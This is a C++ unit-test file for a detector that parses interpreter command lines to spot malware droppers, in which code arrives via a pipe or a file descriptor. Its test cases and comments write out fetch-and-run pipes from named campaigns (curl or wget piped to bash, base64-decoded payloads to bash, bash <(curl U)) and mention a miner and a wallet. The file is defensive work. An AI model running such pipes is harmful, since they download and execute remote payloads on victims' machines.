// SPDX-License-Identifier: Apache-2.0
// The state machine that reads command lines: on the table of arguments_table.h, on what droppers
// and their benign twins run, on names of descriptors, and on cut command lines.
#include "davylamp/rules/arguments.h"

#include <gtest/gtest.h>

#include <random>
#include <set>
#include <string_view>

#include "arguments_table.h"

namespace davylamp::test {

namespace {

using Args = std::vector<std::string>;

std::string joined(const Args& args)
{
    std::string bytes;
    for (const std::string& arg : args)
        bytes += arg + '\0';
    return bytes;
}

// As the kernel program does: what fits into DAVY_ARGS_MAX - 1 bytes.
davy_args_state fed(std::uint16_t family, std::string_view bytes)
{
    davy_args_state state;
    davy_args_begin(&state, family);
    for (char byte : bytes.substr(0, DAVY_ARGS_MAX - 1))
        davy_args_step(&state, static_cast<__u8>(byte));
    return state;
}

std::int32_t code_fd(std::uint16_t family, std::string_view bytes)
{
    davy_args_state state = fed(family, bytes);
    return davy_args_code_fd(&state);
}

// What the machine says of a command line of any length, read to its end.
std::int32_t uncut_code_fd(std::uint16_t family, std::string_view bytes)
{
    davy_args_state state;
    davy_args_begin(&state, family);
    for (char byte : bytes)
        davy_args_step(&state, static_cast<__u8>(byte));
    state.length = 1;
    return davy_args_code_fd(&state);
}

std::string shown(const Args& args)
{
    std::string text;
    for (const std::string& arg : args)
        text += text.empty() ? arg : " [" + arg + "]";
    return text;
}

TEST(Arguments, ReadsCommandLinesAsTheInterpretersDo)
{
    for (const Program& program : programs())
        for (const CommandLine& line : program.lines)
            EXPECT_EQ(code_fd(program.family, joined(line.args)), line.code_fd) << shown(line.args);
}

// Options of versions that are not installed here, from their sources.
TEST(Arguments, ReadsOptionsOfOtherVersions)
{
    const CommandLine lines[] = {
        {{"python2", "-Q", "new", "script"}, kElsewhere},
        {{"python2", "-t", "-3"}, 0},
    };
    for (const CommandLine& line : lines)
        EXPECT_EQ(code_fd(DAVY_FAMILY_PYTHON, joined(line.args)), line.code_fd) << shown(line.args);
    EXPECT_EQ(code_fd(DAVY_FAMILY_LUA, joined({"luajit", "-jv", "-O3"})), 0);
    EXPECT_EQ(code_fd(DAVY_FAMILY_LUA, joined({"luajit", "-b", "script"})), kElsewhere);
    EXPECT_EQ(code_fd(DAVY_FAMILY_NODE, joined({"node", "--localstorage-file", "f"})), 0);
    EXPECT_EQ(code_fd(DAVY_FAMILY_NODE, joined({"node", "--run", "start"})), kElsewhere);
    EXPECT_EQ(code_fd(DAVY_FAMILY_MULTICALL, joined({"toybox", "sh"})), 0);
    EXPECT_EQ(code_fd(DAVY_FAMILY_MULTICALL, joined({"toybox", "cat"})), kElsewhere);
    EXPECT_EQ(code_fd(DAVY_FAMILY_MULTICALL, joined({"hush", "-s"})), 0);
    EXPECT_EQ(code_fd(DAVY_FAMILY_SHELL, joined({"fish"})), 0);
    EXPECT_EQ(code_fd(DAVY_FAMILY_SHELL, joined({"tcsh", "-f", "script"})), kElsewhere);
}

// Tools that this machine may lack, from their manuals.
TEST(Arguments, ReadsToolsThatRunAProgram)
{
    struct Line {
        std::uint16_t family;
        Args args;
        std::int32_t code_fd;
    };
    const Line lines[] = {
        {DAVY_FAMILY_AWK, {"gawk", "-i", "inplace", "-f", "/dev/stdin"}, 0},
        {DAVY_FAMILY_AWK, {"gawk", "--file=/dev/fd/3"}, 3},
        {DAVY_FAMILY_AWK, {"gawk", "-e", "{}", "/dev/stdin"}, 0}, // read as data, too
        {DAVY_FAMILY_AWK, {"gawk", "--source={}", "f"}, kElsewhere},
        {DAVY_FAMILY_TCL, {"tclsh"}, 0},
        {DAVY_FAMILY_TCL, {"tclsh", "-encoding", "utf-8", "/dev/fd/3"}, 3},
        {DAVY_FAMILY_TCL, {"tclsh", "script", "-"}, kElsewhere},
        {DAVY_FAMILY_TCL, {"expect", "-"}, 0},
        {DAVY_FAMILY_TCL, {"expect", "-f", "-"}, 0},
        {DAVY_FAMILY_TCL, {"expect", "-nf", "script"}, kElsewhere},
        {DAVY_FAMILY_JAVA, {"java", "-cp", "a", "-Dweb.http=1", "-jar", "/dev/fd/3"}, 3},
        {DAVY_FAMILY_JAVA, {"java", "-jar", "server.jar"}, kElsewhere},
        {DAVY_FAMILY_JAVA, {"java", "-cp", "/dev/fd/3", "Main"}, kElsewhere},
        {DAVY_FAMILY_INPUT, {"at", "now"}, 0},
        {DAVY_FAMILY_INPUT, {"at", "-M", "-q", "b", "now + 1 minute"}, 0},
        {DAVY_FAMILY_INPUT, {"at", "-f", "/dev/fd/3", "now"}, 3},
        {DAVY_FAMILY_INPUT, {"at", "-l"}, kElsewhere},
        {DAVY_FAMILY_INPUT, {"crontab", "-"}, 0},
        {DAVY_FAMILY_INPUT, {"crontab", "-u", "yarn", "/dev/fd/3"}, 3},
        {DAVY_FAMILY_INPUT, {"crontab", "-l"}, kElsewhere},
        {DAVY_FAMILY_INPUT, {"gdb", "-batch", "-ex", "bt", "./a.out"}, 0},
        {DAVY_FAMILY_INPUT, {"gdb", "-silent", "-core", "core"}, 0},
        {DAVY_FAMILY_INPUT, {"gdb", "-x", "/dev/fd/3"}, 3},
        {DAVY_FAMILY_MULTICALL, {"busybox", "awk", "-f", "-"}, 0},
        {DAVY_FAMILY_MULTICALL, {"busybox", "awk", "{}"}, kElsewhere},
        {DAVY_FAMILY_MULTICALL, {"busybox", "crontab", "-"}, 0},
        {DAVY_FAMILY_OTHER, {"R", "--no-save"}, 0},
        {DAVY_FAMILY_OTHER, {"R", "--no-echo", "--file=/dev/fd/3"}, 3},
        {DAVY_FAMILY_OTHER, {"octave", "-q", "--eval", "1"}, kElsewhere},
        {DAVY_FAMILY_OTHER, {"guile", "-s", "/dev/stdin"}, 0},
        {DAVY_FAMILY_OTHER, {"gnuplot", "-"}, 0},
        {DAVY_FAMILY_OTHER, {"gnuplot", "script"}, kElsewhere},
    };
    for (const Line& line : lines)
        EXPECT_EQ(code_fd(line.family, joined(line.args)), line.code_fd) << shown(line.args);
}

// glibc's elf/rtld.c and musl's ldso/dynlink.c: words alone, and the program is the first operand.
TEST(Arguments, ReadsWhatALoaderIsGiven)
{
    EXPECT_EQ(code_fd(DAVY_FAMILY_LOADER, joined({"ld.so", "/proc/self/fd/5", "-x"})), 5);
    EXPECT_EQ(code_fd(DAVY_FAMILY_LOADER, joined({"ld.so", "--library-path", "/dev/fd/3", "--argv0",
                                                  "sshd", "/dev/fd/7"})),
              7);
    EXPECT_EQ(code_fd(DAVY_FAMILY_LOADER, joined({"ld.so", "--preload=/dev/fd/3", "/dev/fd/7"})),
              7);
    EXPECT_EQ(code_fd(DAVY_FAMILY_LOADER, joined({"ld.so", "./miner", "/dev/fd/3"})), kElsewhere);
    EXPECT_EQ(code_fd(DAVY_FAMILY_LOADER, joined({"ld.so", "--list", "/dev/fd/3"})), kElsewhere);
}

struct Stage {
    std::uint16_t family;
    Args args;
    std::int32_t code_fd;
};

TEST(Arguments, CatchesTheDroppersStages)
{
    const Stage stages[] = {
        {DAVY_FAMILY_SHELL, {"bash", "-sh"}, 0},                     // 8220: (curl||wget)|bash -sh
        {DAVY_FAMILY_SHELL, {"bash", "-"}, 0},                       // echo B64|base64 -d|bash -
        {DAVY_FAMILY_SHELL, {"bash"}, 0},                            // Sysrv, Rocke
        {DAVY_FAMILY_SHELL, {"sh"}, 0},                              // Kinsing
        {DAVY_FAMILY_SHELL, {"/bin/sh", "-s", "--", "-w", "4A"}, 0}, // with a wallet
        {DAVY_FAMILY_PERL, {"perl"}, 0}, // Kiss-a-dog: wget -qO - U|perl
        {DAVY_FAMILY_PYTHON, {"python3", "-"}, 0},
        {DAVY_FAMILY_PHP, {"php"}, 0},
        {DAVY_FAMILY_MULTICALL, {"busybox", "sh"}, 0},   // busybox wget -O- U|busybox sh
        {DAVY_FAMILY_SHELL, {"bash", "/dev/fd/63"}, 63}, // bash <(curl U)
        {DAVY_FAMILY_SHELL, {"bash", "-c", "source /dev/stdin"}, 0},
    };
    for (const Stage& stage : stages)
        EXPECT_EQ(code_fd(stage.family, joined(stage.args)), stage.code_fd) << shown(stage.args);
}

TEST(Arguments, StaysSilentOnTheirBenignTwins)
{
    const Stage stages[] = {
        // NodeManager runs each job so, legitimate or not.
        {DAVY_FAMILY_SHELL,
         {"/bin/bash", "-c", "$JAVA_HOME/bin/java -Xmx1g Job 1>out"},
         kElsewhere},
        {DAVY_FAMILY_SHELL, {"bash", "/nm/container_1/launch_container.sh"}, kElsewhere},
        // The shell that builds the pipe reads none of it.
        {DAVY_FAMILY_SHELL, {"bash", "-c", "(curl -s U||wget -q -O - U) | bash -sh"}, kElsewhere},
        {DAVY_FAMILY_SHELL, {"sh", "-c", "curl -fsSL U | tar xz"}, kElsewhere},
        {DAVY_FAMILY_PYTHON, {"python", "-c", "import urllib;exec(1)"}, kElsewhere},
        {DAVY_FAMILY_PYTHON,
         {"python3", "-m", "json.tool"},
         kElsewhere}, // curl|python3 -m json.tool
        {DAVY_FAMILY_PERL, {"perl", "-pe", "s/a/b/"}, kElsewhere},
        {DAVY_FAMILY_PERL, {"perl", "f"}, kElsewhere},
        {DAVY_FAMILY_RUBY, {"ruby", "-rjson", "-e", "puts 1"}, kElsewhere},
        {DAVY_FAMILY_NODE, {"node", "-pe", "0"}, kElsewhere},
        {DAVY_FAMILY_PHP, {"php", "-r", "echo 1;"}, kElsewhere},
        {DAVY_FAMILY_SHELL, {"bash", "filter.sh", "-"}, kElsewhere}, // curl|bash script: data
        {DAVY_FAMILY_SHELL, {"sh", "/etc/cron.daily/apt-compat"}, kElsewhere},
        {DAVY_FAMILY_MULTICALL, {"busybox", "wget", "-O-", "U"}, kElsewhere},
        {DAVY_FAMILY_MULTICALL, {"tar", "xz"}, kElsewhere},
        {DAVY_FAMILY_NONE, {"crontab", "-"}, kElsewhere},
        {DAVY_FAMILY_NONE, {"xargs", "kill", "-9"}, kElsewhere},
        {DAVY_FAMILY_NONE, {"gpg", "--dearmor"}, kElsewhere},
    };
    for (const Stage& stage : stages)
        EXPECT_EQ(code_fd(stage.family, joined(stage.args)), stage.code_fd) << shown(stage.args);
}

struct Naming {
    Args args;
    std::uint64_t named;
};

constexpr std::uint64_t bit(int fd) { return 1ull << fd; }

TEST(Arguments, NoticesNamesOfDescriptors)
{
    const Naming namings[] = {
        {{"curl", "-o", "/dev/fd/63", "U"}, bit(63)},
        {{"curl", "-o/dev/fd/63", "U"}, bit(63)},
        {{"curl", "-sSo/proc/self/fd/12", "U"}, bit(12)},
        {{"curl", "--output=/dev/fd/63", "U"}, bit(63)},
        {{"curl", "-d", "@/dev/fd/5", "U"}, bit(5)},
        {{"wget", "-O", "/dev/stdout", "U"}, bit(1)},
        {{"tee", "/dev/fd/63", "/dev/fd/62"}, bit(63) | bit(62)},
        {{"cat", "/dev/stdin", "/dev/stderr"}, bit(0) | bit(2)},
        {{"dd", "of=/dev/fd/63", "bs=1"}, bit(63)},
        {{"socat", "-", "OPEN:/dev/fd/7,wronly"}, bit(7)},
        {{"sh", "-c", "cat </dev/fd/9 | sort >/dev/fd/10;"}, bit(9) | bit(10)},
        {{"cat", "/proc/thread-self/fd/4"}, bit(4)},
        {{"cat", "//dev///fd//3", "/dev/./fd/./11", "/./dev/stdin"}, bit(3) | bit(11) | bit(0)},
        {{"perl", "/dev/fd/3/x"}, bit(3)},
        {{"diff", "/dev/fd/63", "/dev/fd/62"}, bit(63) | bit(62)},
    };
    for (const Naming& naming : namings)
        for (std::uint16_t family : {DAVY_FAMILY_NONE, DAVY_FAMILY_SHELL, DAVY_FAMILY_NODE,
                                     DAVY_FAMILY_MULTICALL, DAVY_FAMILY_COUNT})
            EXPECT_EQ(fed(family, joined(naming.args)).named_fds, naming.named)
                << shown(naming.args) << " as family " << family;
}

// They have no bit; the last of them counts.
TEST(Arguments, NoticesADescriptorBeyondTheMask)
{
    EXPECT_EQ(fed(DAVY_FAMILY_NONE, joined({"curl", "-o", "/dev/fd/77", "U"})).high_fd, 77);
    EXPECT_EQ(fed(DAVY_FAMILY_NONE, joined({"tee", "/dev/fd/63", "/dev/fd/64"})).high_fd, 64);
    EXPECT_EQ(fed(DAVY_FAMILY_NONE, joined({"tee", "/dev/fd/100", "/dev/fd/3"})).high_fd, 100);
    EXPECT_EQ(fed(DAVY_FAMILY_NONE, joined({"tee", "/dev/fd/63"})).high_fd, 0);
    EXPECT_EQ(fed(DAVY_FAMILY_NONE, joined({"cat", "/dev/fd/99999"})).high_fd, 0);
}

TEST(Arguments, TakesNothingElseForADescriptor)
{
    const Args lines[] = {
        {"cat", "/dev/fd/64"}, // named, but beyond the mask
        {"cat", "/dev/fd/163"},
        {"cat", "/dev/fd/99999999999999999999"},
        {"cat", "/dev/fd/063"}, // procfs knows no leading zero
        {"cat", "/dev/fd/"},
        {"cat", "/dev/fd/3x"},
        {"cat", "/dev/fd/3.5"},
        {"cat", "/dev/fd/-3"},
        {"cat", "/dev/fd/.3"},
        {"cat", "/dev/fdx/3"},
        {"cat", "/dev/stdin2", "/dev/stdins"},
        {"cat", "/tmp/dev/fd/3", "x/dev/stdin", "./dev/stdin", "../dev/fd/3"},
        {"cat", "-x./dev/fd/3", "--file=lib/dev/fd/3"},
        {"cat", "dev/fd/3", "fd/3", "63"},
        {"cat", "/proc/1/fd/3", "/proc/self/fd", "/proc/self/fdinfo/3", "/dev/../dev/fd/3"},
        {"tar", "-C", "/dev", "fd"},
    };
    for (const Args& args : lines)
        EXPECT_EQ(fed(DAVY_FAMILY_NONE, joined(args)).named_fds, 0u) << shown(args);
}

TEST(Arguments, AnswersForDescriptorsBeyondTheMask)
{
    EXPECT_EQ(code_fd(DAVY_FAMILY_SHELL, joined({"bash", "/dev/fd/255"})), 255);
    EXPECT_EQ(code_fd(DAVY_FAMILY_SHELL, joined({"bash", "/dev/fd/99999999999"})), kElsewhere);
}

TEST(Arguments, SaysNothingOfNoArguments)
{
    EXPECT_EQ(code_fd(DAVY_FAMILY_SHELL, ""), kElsewhere);  // the kernel could not read them
    EXPECT_EQ(code_fd(DAVY_FAMILY_SHELL, joined({""})), 0); // argc 1, argv[0] ""
    for (std::uint16_t family : {DAVY_FAMILY_NONE, DAVY_FAMILY_MULTICALL, DAVY_FAMILY_COUNT, 200})
        EXPECT_EQ(code_fd(family, joined({"x"})), kElsewhere);
}

// The Korn shells' -oNAME, known by argv[0]; bash takes the name from the next argument.
TEST(Arguments, ReadsJoinedOptionNamesByTheShellsName)
{
    for (const char* name : {"zsh", "-zsh", "/bin/mksh", "ksh93", "ksh", "lksh", "oksh"})
        EXPECT_EQ(code_fd(DAVY_FAMILY_SHELL, joined({name, "-oposix", "script"})), kElsewhere)
            << name;
    EXPECT_EQ(code_fd(DAVY_FAMILY_SHELL, joined({"bash", "-oposix", "script"})), 0);
}

TEST(Arguments, WordsAreDistinct)
{
    std::set<std::uint64_t> keys;
    for (const davy_args_word& word : davy_args_words) {
        EXPECT_TRUE(keys.insert(word.key).second) << word.key;
        EXPECT_TRUE(word.effects & DAVY_OPT_KNOWN) << word.key;
    }
}

TEST(Arguments, HashesLiteralsAsBytes)
{
    std::uint64_t hash = DAVY_HASH_BEGIN;
    for (char byte : std::string_view("experimental-default-type"))
        hash = davy_hash_step(hash, static_cast<__u8>(byte));
    EXPECT_EQ(DAVY_HASH_OF("experimental-default-type"), hash);
    EXPECT_EQ(DAVY_HASH_OF(""), DAVY_HASH_BEGIN);
}

TEST(Arguments, LettersAreBits)
{
    EXPECT_EQ(DAVY_LETTERS("A"), bit(0));
    EXPECT_EQ(DAVY_LETTERS("az"), bit(26) | bit(51));
    EXPECT_EQ(DAVY_LETTERS("09"), bit(52) | bit(61));
    EXPECT_EQ(DAVY_LETTERS("?:"), bit(62) | bit(63));
    EXPECT_EQ(DAVY_LETTERS("rBRFESimvh?l"), DAVY_LETTERS("l?hvmiSEFRBr"));
}

// A cut answer is the whole line's answer, or none: each line of the table, cut at each byte but
// the argument's ends (a cut there looks like a shorter command line unless it fills the buffer).
TEST(ArgumentsCut, NeverSaysWhatTheWholeLineDoesNot)
{
    for (const Program& program : programs())
        for (const CommandLine& line : program.lines) {
            std::string bytes = joined(line.args);
            for (std::size_t length = 1; length < bytes.size(); length++) {
                if (bytes[length - 1] == '\0')
                    continue;
                davy_args_state state = fed(program.family, bytes.substr(0, length));
                std::int32_t cut = davy_args_code_fd(&state);
                EXPECT_TRUE(cut == kElsewhere || cut == line.code_fd)
                    << shown(line.args) << " cut to " << length << " bytes: " << cut;
                if (cut != line.code_fd && !(state.seen & DAVY_OPT_NEVER)) {
                    EXPECT_TRUE(davy_args_undecided(&state))
                        << shown(line.args) << " at " << length;
                }
            }
        }
}

// Half a kilobyte of options in front hides what follows, and is no answer "standard input".
TEST(ArgumentsCut, PaddingIsUndecidedWhereverTheCutFalls)
{
    const Stage paddings[] = {
        {DAVY_FAMILY_SHELL, {"bash", "-x"}, 0},       {DAVY_FAMILY_SHELL, {"bash", "--posix"}, 0},
        {DAVY_FAMILY_SHELL, {"sh", "+x"}, 0},         {DAVY_FAMILY_SHELL, {"bash", "-o", "vi"}, 0},
        {DAVY_FAMILY_PYTHON, {"python", "-B"}, 0},    {DAVY_FAMILY_PERL, {"perl", "-w"}, 0},
        {DAVY_FAMILY_NODE, {"node", "--jitless"}, 0},
    };
    for (const Stage& padding : paddings)
        for (std::size_t shift = 0; shift < 8; shift++) {
            Args args = padding.args;
            args[0].insert(0, shift, '/');
            std::string bytes = joined(args), more = joined(Args(args.begin() + 1, args.end()));
            EXPECT_EQ(code_fd(padding.family, bytes), padding.code_fd) << shown(args);
            while (bytes.size() < DAVY_ARGS_MAX)
                bytes += more;
            for (const char* last : {"-s", "script", "-"}) {
                davy_args_state state = fed(padding.family, bytes + joined({last}));
                EXPECT_EQ(davy_args_code_fd(&state), kElsewhere) << shown(args) << shift;
                EXPECT_TRUE(davy_args_undecided(&state)) << shown(args) << shift;
            }
        }
}

TEST(ArgumentsCut, WhatIsSettledBeforeTheCutStands)
{
    const std::string tail = joined({std::string(600, 'a')});
    const Stage lines[] = {
        {DAVY_FAMILY_SHELL, {"bash", "-s", "--"}, 0},
        {DAVY_FAMILY_SHELL, {"bash", "-s", "x"}, 0},
        {DAVY_FAMILY_SHELL, {"bash", "/dev/fd/63"}, 63},
        {DAVY_FAMILY_SHELL, {"bash", "-c", ". /dev/stdin"}, 0},
        {DAVY_FAMILY_SHELL, {"bash", "script"}, kElsewhere},
        {DAVY_FAMILY_PYTHON, {"python3", "-"}, 0},
        {DAVY_FAMILY_PYTHON, {"python3", "-c"}, kElsewhere},
        {DAVY_FAMILY_PHP, {"php", "--"}, 0},
    };
    for (const Stage& line : lines) {
        davy_args_state state = fed(line.family, joined(line.args) + joined({"x"}) + tail);
        EXPECT_EQ(davy_args_code_fd(&state), line.code_fd) << shown(line.args);
        EXPECT_FALSE(davy_args_undecided(&state)) << shown(line.args);
    }
}

// Random lines longer than what is read: the cut answer against the machine's own on the whole.
TEST(ArgumentsCut, AgreesWithTheWholeLineOrSaysNothing)
{
    const Args words = {"-s",         "-c",     "-i",       "-",        "--",
                        "-x",         "-o",     "pipefail", "--rcfile", "script",
                        "-n",         "-e",     "-p",       "-W",       ". /dev/stdin",
                        "-f",         "--eval", "--help",   "-I",       "-sc",
                        "/dev/stdin", "+O",     "",         "--title",  "/dev/fd/63"};
    std::mt19937 random(20);
    int settled = 0, undecided = 0;

    for (int round = 0; round < 20000; round++) {
        std::uint16_t family = 1 + random() % (DAVY_FAMILY_COUNT - 1);
        std::string bytes = joined({"sh"});
        while (bytes.size() < DAVY_ARGS_MAX + 40) {
            // Mostly options, so that the cut meets undecided lines too.
            const std::string& word = random() % 40 ? words[5] : words[random() % words.size()];
            bytes += word + '\0';
        }
        davy_args_state state = fed(family, bytes);
        std::int32_t cut = davy_args_code_fd(&state);
        EXPECT_TRUE(cut == kElsewhere || cut == uncut_code_fd(family, bytes)) << round;
        (davy_args_undecided(&state) ? undecided : settled)++;
    }
    EXPECT_GT(settled, 1000);
    EXPECT_GT(undecided, 200);
}

// Where the program stands: its name's or text's first byte, or the NUL before it.
TEST(Arguments, Program)
{
    struct Case {
        std::uint16_t family;
        Args args;
        std::uint8_t program;
        const char* begins;
    };
    const Case cases[] = {
        {DAVY_FAMILY_SHELL, {"bash"}, DAVY_PROGRAM_NONE, ""},
        {DAVY_FAMILY_SHELL, {"bash", "-s", "--"}, DAVY_PROGRAM_FILE, ""},
        {DAVY_FAMILY_SHELL, {"bash", "/tmp/f", "a"}, DAVY_PROGRAM_FILE, "/tmp/f"},
        {DAVY_FAMILY_SHELL, {"bash", "-x", "--", "f"}, DAVY_PROGRAM_FILE, "f"},
        {DAVY_FAMILY_SHELL, {"bash", "-o", "posix", "f"}, DAVY_PROGRAM_FILE, "f"},
        {DAVY_FAMILY_SHELL, {"sh", "-c", "id; ls", "name"}, DAVY_PROGRAM_TEXT, "id; ls"},
        {DAVY_FAMILY_SHELL, {"bash", "-xc", "id"}, DAVY_PROGRAM_TEXT, "id"},
        {DAVY_FAMILY_SHELL, {"bash", "-c", "-e", "id"}, DAVY_PROGRAM_TEXT, "id"},
        {DAVY_FAMILY_PYTHON, {"python3", "-c", "import os"}, DAVY_PROGRAM_TEXT, "import os"},
        {DAVY_FAMILY_PYTHON, {"python3", "-cimport os"}, DAVY_PROGRAM_TEXT, "import os"},
        {DAVY_FAMILY_PYTHON, {"python3", "-u", "x.py", "-c"}, DAVY_PROGRAM_FILE, "x.py"},
        {DAVY_FAMILY_PERL, {"perl", "-ne", "print"}, DAVY_PROGRAM_TEXT, "print"},
        {DAVY_FAMILY_PERL, {"perl", "-w", "x.pl"}, DAVY_PROGRAM_FILE, "x.pl"},
        {DAVY_FAMILY_RUBY, {"ruby", "-rsocket", "-e", "puts"}, DAVY_PROGRAM_TEXT, "puts"},
        {DAVY_FAMILY_NODE, {"node", "-e", "f()"}, DAVY_PROGRAM_TEXT, "f()"},
        {DAVY_FAMILY_NODE, {"node", "--eval=f()"}, DAVY_PROGRAM_TEXT, "f()"},
        {DAVY_FAMILY_NODE, {"node", "-p", "f()"}, DAVY_PROGRAM_TEXT, "f()"},
        {DAVY_FAMILY_NODE, {"node", "--no-warnings", "x.js"}, DAVY_PROGRAM_FILE, "x.js"},
        {DAVY_FAMILY_PHP, {"php", "-r", "f();"}, DAVY_PROGRAM_TEXT, "f();"},
        {DAVY_FAMILY_LUA, {"lua", "-e", "f()"}, DAVY_PROGRAM_TEXT, "f()"},
        {DAVY_FAMILY_MULTICALL, {"busybox", "sh", "-c", "id"}, DAVY_PROGRAM_TEXT, "id"},
        {DAVY_FAMILY_MULTICALL, {"busybox", "sh", "f"}, DAVY_PROGRAM_FILE, "f"},
        {DAVY_FAMILY_MULTICALL, {"busybox", "cat", "f"}, DAVY_PROGRAM_NONE, ""},
    };
    for (const Case& one : cases) {
        std::string bytes = joined(one.args);
        davy_args_state state = fed(one.family, bytes);
        EXPECT_EQ(state.program, one.program) << shown(one.args);
        if (!one.begins[0])
            continue;
        std::size_t at = state.program_at;
        at += at < bytes.size() && bytes[at] == '\0';
        EXPECT_EQ(bytes.substr(at).substr(0, std::string(one.begins).size()), one.begins)
            << shown(one.args);
    }
}

} // namespace

} // namespace davylamp::test
